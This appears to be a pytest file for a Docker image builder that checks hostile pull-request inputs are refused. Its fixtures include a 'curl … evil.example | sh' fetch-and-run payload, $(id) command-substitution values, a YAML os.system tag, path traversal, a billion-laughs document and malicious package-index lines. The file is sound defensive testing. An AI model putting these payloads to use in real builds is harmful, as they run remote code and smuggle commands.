"""Hostile inputs: what a pull request can put in matrix.yaml or a lock never reaches a Dockerfile.

Each test feeds one class of hostile input through the command a CI job runs and expects exit
status 2 with one line saying what is wrong, nothing written, and the hostile text in no
rendered file. The project used is a copy of this repository's matrix cut down to its two CPU
cells, with their committed locks.
"""

from __future__ import annotations

import http.server
import re
import shutil
import threading
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from builder import cli
from builder.errors import UserError
from builder.lock import header as lockheader
from builder.lock import requirements as lock
from builder.oci import registry
from builder.plan.matrix import load_matrix
from builder.render import render
from builder.wheelhouse import wheelhouse, wheelserver

REPO = Path(__file__).resolve().parents[2]
CELL = "2.13.0-cpu-bookworm-runtime"
CELLS = (CELL, "2.13.0-cpu-bookworm-devel")
PAYLOAD = "curl -s http://evil.example/x | sh"


@dataclass
class Project:
    root: Path

    @property
    def matrix(self) -> Path:
        return self.root / "matrix.yaml"

    def cell(self, name: str = CELL) -> Path:
        return self.root / "images" / name

    def edit(self, path: Path, old: str, new: str) -> None:
        text = path.read_text()
        assert old in text, f"{path.name} does not contain {old!r}"
        path.write_text(text.replace(old, new, 1))

    def rendered_text(self) -> str:
        return "".join(p.read_text() for p in (self.root / "images").rglob("*") if p.is_file())


@pytest.fixture
def project(tmp_path: Path) -> Project:
    text = (REPO / "matrix.yaml").read_text()
    text = re.sub(r"\naxes:\n(  .*\n)+", "\n", text)
    # the CPU includes remain
    text = re.sub(r"\n  - \{[^\n]*(base: noble|base: jammy|base: resolute|linux/arm64)[^\n]*\}", "", text)
    text = re.sub(
        r"\nflagship: .*\n", '\nflagship: {torch: "2.13.0", cuda: cpu, base: bookworm, flavor: runtime}\n', text
    )
    (tmp_path / "matrix.yaml").write_text(text)
    for name in CELLS:
        shutil.copytree(REPO / "images" / name, tmp_path / "images" / name)
    grid = load_matrix(tmp_path / "matrix.yaml")
    render.render(grid.cells, grid)  # the flagship moved to the CPU cell: its spec.json gets `latest`
    return Project(tmp_path)


def run(project: Project, capsys: pytest.CaptureFixture[str], *argv: str, limit_s: float = 30) -> tuple[int, str]:
    """The CLI in-process, as CI runs it; returns the exit status and what it printed."""
    started = time.monotonic()
    code = cli.main(["--matrix", str(project.matrix), *argv])
    elapsed = time.monotonic() - started
    captured = capsys.readouterr()
    assert elapsed < limit_s, f"took {elapsed:.0f} s"  # a hang guard, not a speed target
    return code, captured.out + captured.err


def assert_one_line_error(code: int, output: str, *needles: str) -> None:
    lines = [line for line in output.splitlines() if line.strip()]
    assert code == 2, output
    assert len(lines) == 1 and lines[0].startswith("error: "), output
    assert "Traceback" not in output
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])


def test_the_cut_down_project_is_valid_to_begin_with(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    # The control for every test below: the same project, unedited, passes every check.
    assert run(project, capsys, "lock", "--check")[0] == 0
    assert run(project, capsys, "render", "--check")[0] == 0


# ---------------------------------------------------------------- tag templates


@pytest.mark.parametrize(
    ("template", "needle"),
    [
        ('"{torch}\\nRUN ' + PAYLOAD + '"', "'\\n' cannot be part of a tag"),
        ("'{torch}\"$(id)'", "'\"' cannot be part of a tag"),
        ('"{torch} x"', "' ' cannot be part of a tag"),
        ('"{}-{flavor}"', "a field needs a name"),
        ('"{0}"', "a field needs a name"),
        ('"{torch!r}"', "takes no format spec or conversion"),
        ('"{torch:>40}"', "takes no format spec or conversion"),
        ('"{torch"', "malformed template"),
        ('"{torch.__class__}"', "unknown field {torch.__class__}"),
    ],
)
def test_a_tag_template_that_is_not_tag_characters_and_named_fields_is_refused(
    project: Project, capsys: pytest.CaptureFixture[str], template: str, needle: str
) -> None:
    project.edit(project.matrix, 'tag: "{torch}-{accel}-py{python}-{base}-{flavor}"', f"tag: {template}")
    before = project.rendered_text()
    for command in (["render"], ["render", "--check"], ["plan"]):
        code, output = run(project, capsys, *command)
        assert_one_line_error(code, output, f"{project.matrix}:", "tag:", needle)
    assert project.rendered_text() == before  # nothing written


def test_an_alias_template_gets_the_same_grammar(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.edit(project.matrix, '- template: "{torch_minor}-{flavor}"', '- template: "{torch_minor};{flavor}"')
    code, output = run(project, capsys, "render")
    assert_one_line_error(code, output, "aliases[1].template", "';' cannot be part of a tag")


def test_a_tag_longer_than_the_registry_allows_is_refused(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.edit(project.matrix, 'tag: "{torch}-', 'tag: "' + "x" * 120 + "-{torch}-")
    code, output = run(project, capsys, "plan")
    assert_one_line_error(code, output, "is not a valid tag", "at most 128")


@pytest.mark.parametrize(
    ("field", "old", "new"),
    [
        ("registry", "registry: 127.0.0.1:5000", 'registry: "127.0.0.1:5000/$(id)"'),
        ("repository", "repository: torch", 'repository: "torch\\"; RUN x"'),
        ("mirror", 'mirror: "http://deb.debian.org/debian"\n', 'mirror: "http://deb.debian.org/debian $(id)"\n'),
        ("mirror", 'mirror: "http://deb.debian.org/debian-security"', 'mirror: "http://deb.debian.org/x\\nRUN id"'),
        ("suite", "suite: bookworm-security}", "suite: bookworm-security; id}"),
        ("images", "repository: torch", "repository: torch\nimages: ../outside"),
    ],
)
def test_other_values_that_reach_a_dockerfile_or_a_path_are_checked_against_their_grammar(
    project: Project, capsys: pytest.CaptureFixture[str], field: str, old: str, new: str
) -> None:
    project.edit(project.matrix, old, new)
    code, output = run(project, capsys, "render")
    assert_one_line_error(code, output, field, "is not valid; write")


def test_a_bootstrap_hook_is_one_of_the_folders_mmdebstrap_ships(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    # A hook folder's scripts run as root on the host: a path from a pull request must not name one.
    project.edit(project.matrix, "hooks: [merged-usr]", "hooks: [../../../tmp/evil]")
    code, output = run(project, capsys, "render")
    assert_one_line_error(code, output, "bootstrap.hooks[0]", "should be 'merged-usr'")


# ---------------------------------------------------------------- debian.lock


def test_a_debian_pin_carrying_a_command_is_refused_by_every_check(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    path = project.cell() / "debian.lock"
    header, body = lockheader.split(path.read_text())
    hostile = body.replace('"gcc=4:12.2.0-3"', f'"gcc=4:12.2.0-3 \\n && {PAYLOAD} \\\\"')
    assert hostile != body
    # Even with the content digest recomputed, as an attacker would.
    path.write_text(lockheader.with_header(header.fingerprint or "", hostile))
    before = project.rendered_text()
    for command in (["lock", "--check"], ["render", "--check"], ["render"], ["build", CELL]):
        code, output = run(project, capsys, *command)
        assert_one_line_error(code, output, str(path), "is not a Debian pin")
    assert project.rendered_text() == before and PAYLOAD not in (project.cell() / "Dockerfile").read_text()


def test_a_debian_lock_that_is_not_the_json_lock_writes_is_refused(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    path = project.cell() / "debian.lock"
    path.write_text(
        path.read_text().partition("\n")[0] + '\n{"base": [], "common": "gcc=1", "flavor": [], "files": {}}\n'
    )
    code, output = run(project, capsys, "lock", "--check")
    assert_one_line_error(code, output, '"common" must be a list')


# ---------------------------------------------------------------- requirements.lock


def _replace_body(path: Path, old: str, new: str, keep_header: bool) -> None:
    text = path.read_text()
    assert old in text
    header, body = lockheader.split(text)
    body = body.replace(old, new, 1)
    if keep_header:
        path.write_text(text.partition("\n")[0] + "\n" + body)
    else:  # what an attacker who read the code does: a matching content digest
        path.write_text(lockheader.with_header(header.fingerprint or "", body))


def test_a_changed_hash_under_the_kept_header_is_caught_as_an_edit(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    path = project.cell() / lock.STACK_LOCK
    first_hash = re.search(r"--hash=sha256:([0-9a-f]{64})", path.read_text())
    assert first_hash
    _replace_body(path, first_hash.group(1), "f" * 64, keep_header=True)
    for command in (["lock", "--check"], ["build", CELL]):
        code, output = run(project, capsys, *command)
        assert_one_line_error(code, output, str(path), "edited after `lock` wrote it")


@pytest.mark.parametrize(
    ("line", "needle"),
    [
        ("evil @ https://evil.example/evil-1.0-py3-none-any.whl", "is not a line `lock` writes"),
        ("--index-url http://evil.example/simple", "is not a line `lock` writes"),
        ("-e git+https://evil.example/x.git#egg=x", "is not a line `lock` writes"),
        ("evil==1.0; python_version > '3' --hash=sha256:" + "a" * 64, "is not a line `lock` writes"),
        ("evil==1.0", "is not a line `lock` writes"),
        ("evil==1.0 \\\n    --hash=sha256:zz", "is not the next `    --hash=sha256:<64 hex>` line"),  # line 2
        ("evil==$(id) \\", "is not a line `lock` writes"),
        # A comment ending in a backslash hid the next line from the builder, not from pip.
        ("    # via torch \\\n--find-links http://evil.example/", "is not a line `lock` writes"),
    ],
)
def test_a_lock_line_that_is_not_a_hashed_pin_is_refused_with_its_line(
    project: Project, capsys: pytest.CaptureFixture[str], line: str, needle: str
) -> None:
    path = project.cell() / lock.STACK_LOCK
    _replace_body(path, "numpy==", f"{line}\nnumpy==", keep_header=False)
    refused = line.splitlines()[1] if "--hash=sha256:zz" in line else line.splitlines()[0]  # the first bad line
    number = next(i for i, text in enumerate(path.read_text().splitlines(), 1) if text == refused)
    for command in (["lock", "--check"], ["render", "--check"], ["build", CELL]):
        code, output = run(project, capsys, *command)
        assert_one_line_error(code, output, f"{path}:{number}:", needle)


def test_another_torch_in_a_lock_is_refused_even_with_a_matching_digest(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    path = project.cell() / lock.STACK_LOCK
    _replace_body(path, "torch==2.13.0+cpu", "torch==2.13.1+cpu", keep_header=False)
    for command in (["lock", "--check"], ["build", CELL]):
        code, output = run(project, capsys, *command)
        assert_one_line_error(code, output, "the lock holds torch 2.13.1+cpu, not 2.13.0+cpu")


def test_a_flavor_lock_that_moves_a_stack_package_is_refused(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    devel = project.cell("2.13.0-cpu-bookworm-devel")
    extra = "torch==2.14.0 \\\n    --hash=sha256:" + "a" * 64 + "\n"
    path = devel / lock.FLAVOR_LOCK
    header, body = lockheader.split(path.read_text())
    path.write_text(lockheader.with_header(header.fingerprint or "", body + extra))
    code, output = run(project, capsys, "lock", "--check")
    assert_one_line_error(code, output, "the flavor may not move what the torch stack locked")


# ---------------------------------------------------------------- the YAML loader


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        # "Billion laughs": nine levels of ten aliases each would be 10^9 values.
        (
            "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
            + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8)),
            "aliases (*name)",
        ),
        ("a: " + "[" * 40 + "]" * 40 + "\n", "nested more than 16 levels"),
        ("registry: !!python/object/apply:os.system ['id']\n", "unsupported YAML tag"),
        ("registry: !custom x\n", "unsupported YAML tag"),
        ("registry: 127.0.0.1:5000\n\tbad: tab\n", "malformed YAML"),
    ],
)
def test_a_hostile_yaml_document_is_one_line_and_fast(
    project: Project, capsys: pytest.CaptureFixture[str], text: str, needle: str
) -> None:
    project.matrix.write_text(text)
    code, output = run(project, capsys, "plan")
    assert_one_line_error(code, output, str(project.matrix), needle)


def test_the_value_count_cap_is_what_stops_wide_alias_expansion(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    # 60 aliases (under the alias cap) of one 2,000-value list: 120,000 values once expanded.
    leaf = "a: &a [" + ", ".join(["x"] * 2000) + "]\n"
    wide = "b: &b [" + ", ".join(["*a"] * 60) + "]\n"
    project.matrix.write_text(leaf + wide)
    code, output = run(project, capsys, "plan")
    assert_one_line_error(code, output, "the document expands to more than 100000 values")


def test_invalid_utf8_names_its_line(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.matrix.write_bytes(b"registry: 127.0.0.1:5000\nrepository: torch\xff\n")
    code, output = run(project, capsys, "plan")
    assert_one_line_error(code, output, f"{project.matrix}:2:", "not UTF-8")


def test_a_very_large_file_is_refused_before_it_is_parsed(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.matrix.write_text("# padding\n" * 200_000)
    code, output = run(project, capsys, "plan")
    assert_one_line_error(code, output, "larger than 1024 KiB")


# ---------------------------------------------------------------- the environment


@pytest.mark.parametrize(
    "reference", ["${HOME}", "${AWS_SECRET_ACCESS_KEY:-x}", "$HOME/wheels", "${TORCH_WHEEL_DIR:-$(id)}"]
)
def test_find_links_may_name_only_the_documented_variables(
    project: Project, capsys: pytest.CaptureFixture[str], reference: str
) -> None:
    project.edit(project.matrix, '["${TORCH_WHEEL_DIR:-/opt/wheels}"]', f'["{reference}"]')
    code, output = run(project, capsys, "plan")
    assert_one_line_error(code, output, "find_links", "no other variable")


def test_no_message_prints_a_value_taken_from_the_environment(
    project: Project, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = "/run/secrets/s3cr3t-token-value"
    monkeypatch.setenv("TORCH_WHEEL_DIR", secret)
    code, output = run(project, capsys, "lock", "--python-only", CELL)
    assert code == 2 and secret not in output and "s3cr3t" not in output
    assert "${TORCH_WHEEL_DIR:-/opt/wheels} does not exist" in output


# ---------------------------------------------------------------- registries


def test_plain_http_is_decided_from_the_resolved_address_not_the_name() -> None:
    assert registry.is_loopback("127.0.0.1:5000") and registry.is_loopback("localhost:5000")
    assert registry.is_loopback("[::1]:5000")
    for remote in ("localhost.example.com:5000", "127.0.0.1.example.com", "ghcr.io"):
        assert not registry.is_loopback(remote), remote
        assert registry.Registry(remote).base.startswith("https://")


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Records the Authorization header of every request; redirects as `script` says. With
    `challenge`, a request without credentials gets a basic-authentication challenge."""

    seen: list[tuple[str, str, str | None]]
    script: dict[str, tuple[int, dict[str, str]]]
    challenge = False

    def log_message(self, format: str, *args: object) -> None:
        pass

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        self.seen.append((self.command, self.path, self.headers.get("Authorization")))
        status, headers = next(
            (value for prefix, value in self.script.items() if self.path.startswith(prefix)), (200, {})
        )
        if self.challenge and not self.headers.get("Authorization"):
            status, headers = 401, {"WWW-Authenticate": 'Basic realm="test"'}
        self.send_response(status)
        for key, value in {**headers, "Content-Length": "0"}.items():
            self.send_header(key, value)
        self.end_headers()

    do_GET = do_HEAD = do_PUT = do_POST = _answer


@pytest.fixture
def two_hosts() -> Iterator[tuple[str, str, type[_Recorder], type[_Recorder]]]:
    """Two loopback servers on different ports: the registry, and 'another host'."""
    servers, handlers = [], []
    for _ in range(2):
        handler = type("Recorder", (_Recorder,), {"seen": [], "script": {}})
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        handlers.append(handler)
    ports = [s.server_address[1] for s in servers]
    yield f"127.0.0.1:{ports[0]}", f"127.0.0.1:{ports[1]}", handlers[0], handlers[1]
    for server in servers:
        server.shutdown()
        server.server_close()


def test_credentials_are_not_sent_to_another_host_on_a_redirect_or_an_upload_location(
    two_hosts: tuple[str, str, type[_Recorder], type[_Recorder]],
) -> None:
    home, other, registry_side, other_side = two_hosts
    registry_side.script = {
        "/v2/torch/blobs/sha256:": (404, {}),
        "/v2/torch/blobs/uploads/": (202, {"Location": f"http://{other}/upload/1"}),
        "/v2/torch/manifests/": (307, {"Location": f"http://{other}/elsewhere"}),
    }
    registry_side.challenge = True
    other_side.script = {"/upload/": (201, {})}
    client = registry.Registry(home, registry.Registry.login("ci", "s3cret"), retries=0)
    client.check()
    client.upload_blob("torch", b"payload")
    with pytest.raises(
        UserError, match="is not JSON"
    ):  # the other host answers no manifest; the request is what counts
        client.manifest("torch", "latest")
    answered = registry_side.seen[1:]  # after the first request's challenge, every one carries them
    assert answered and all(auth is not None for _, _, auth in answered)  # the registry itself gets them
    assert [(method, path) for method, path, _ in other_side.seen] == [
        ("PUT", next(p for m, p, _ in other_side.seen if m == "PUT")),
        ("GET", "/elsewhere"),
    ]
    assert [auth for _, _, auth in other_side.seen] == [None, None]


# ---------------------------------------------------------------- the wheelhouse server


def test_the_wheelhouse_serves_only_what_a_build_asked_for(tmp_path: Path) -> None:
    house = wheelhouse.Wheelhouse(tmp_path / "house")
    asked = house.root / "files" / "0123456789abcdef" / "settle-layer.sh"
    asked.parent.mkdir(parents=True)
    asked.write_text("#!/bin/sh\n")
    house.allow(["files/0123456789abcdef/settle-layer.sh"])
    (house.root / "files" / "not-asked.txt").write_text("private")
    outside = tmp_path / "secret.txt"
    outside.write_text("host secret")
    (house.root / "files" / "link.txt").symlink_to(outside)
    house.allow(["files/link.txt"])  # even if a path were allowed, a link is never followed

    def status(path: str) -> int:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:18742/{path}", timeout=5) as response:
                return int(response.status)
        except urllib.error.HTTPError as error:
            return error.code

    with wheelserver.serve(house, "127.0.0.1:18742"):
        assert status("files/0123456789abcdef/settle-layer.sh") == 200
        assert status("files/") == 404  # no listing
        assert status("") == 404
        assert status("files/not-asked.txt") == 404
        assert status("files/link.txt") == 404
        assert status("files/0123456789abcdef/../../../secret.txt") == 404
        assert status("%2e%2e/secret.txt") == 404


DEEP = b"[" * 5000 + b"]" * 5000  # past the parser's recursion limit
NESTED = b'{"a": ' * 100 + b"1" + b"}" * 100  # parses, but deeper than any document the builder reads


@pytest.mark.parametrize("document", [DEEP, NESTED])
def test_json_built_to_be_deep_is_one_line_wherever_it_arrives(
    document: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 35: a deep report layer, signed payload or record gave a RecursionError traceback."""
    from securesystemslib import dsse
    from securesystemslib.signer import CryptoSigner

    from builder.assemble import smoke
    from builder.publish import provenance, staging

    with pytest.raises(UserError, match=r"^a manifest: JSON nested deeper than 64 levels \(\d+ bytes\); nothing"):
        registry.json_object(document, "a manifest")
    # The signed payload: an envelope the key did sign, around a deep document.
    signer = CryptoSigner.generate_ed25519()
    envelope = dsse.Envelope(payload=document, payload_type=provenance.PAYLOAD_TYPE, signatures={})
    envelope.sign(signer)
    with pytest.raises(UserError, match="its payload is not a valid in-toto statement"):
        provenance.verify_envelope(envelope.to_dict(), signer.public_key)
    (tmp_path / "t.staging-1.json").write_bytes(document)
    with pytest.raises(UserError, match="not a staged record"):
        staging.read_staged(tmp_path, "t.staging-1")
    monkeypatch.setattr(smoke, "report_path", lambda image_id: tmp_path / "report.json")
    (tmp_path / "report.json").write_bytes(document)
    assert smoke.passing_report("sha256:" + "a" * 64) is None  # a damaged cache entry: tested again


def test_a_redirect_target_that_asks_for_credentials_gets_none(
    two_hosts: tuple[str, str, type[_Recorder], type[_Recorder]],
) -> None:
    """Issue 35: a blob GET redirected to another host, which answered 401 with a challenge of
    its own, was answered with the registry's credentials (judged by the URL asked, not the one
    that answered)."""
    home, other, registry_side, other_side = two_hosts
    registry_side.script = {"/v2/torch/blobs/": (307, {"Location": f"http://{other}/blob"})}
    registry_side.challenge = True
    other_side.challenge = True
    client = registry.Registry(home, registry.Registry.login("ci", "s3cret"), retries=0)
    client.check()
    with pytest.raises(UserError, match=rf"redirected to {other}, which asked for credentials \(401\); the registry's"):
        client.blob("torch", "sha256:" + "a" * 64)
    assert other_side.seen and all(auth is None for _, _, auth in other_side.seen)


def test_a_tag_without_room_for_the_builders_suffixes_is_refused(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 39: six places cut a tag at 128 characters silently; two images could share a name."""
    project.edit(project.matrix, 'tag: "{torch}-', 'tag: "' + "x" * 84 + "-{torch}-")  # 119 characters
    code, output = run(project, capsys, "plan")
    assert_one_line_error(code, output, "leaves no room for the suffixes the builder adds", "at most 117")


def test_derived_tags_are_never_cut_into_another_name() -> None:
    from builder.publish import tags

    long = "t" * 120
    assert tags.fitted("short.att") == "short.att"
    first, second = tags.fitted(f"{long}.selftest.att"), tags.fitted(f"{long}.selftest.result.att")
    assert len(first) == len(second) == 128 and first != second
    with pytest.raises(UserError, match="would be 140 characters, past the registries' 128; give a shorter --run"):
        tags.exact("s" * 140, "the staging tag", "give a shorter --run")
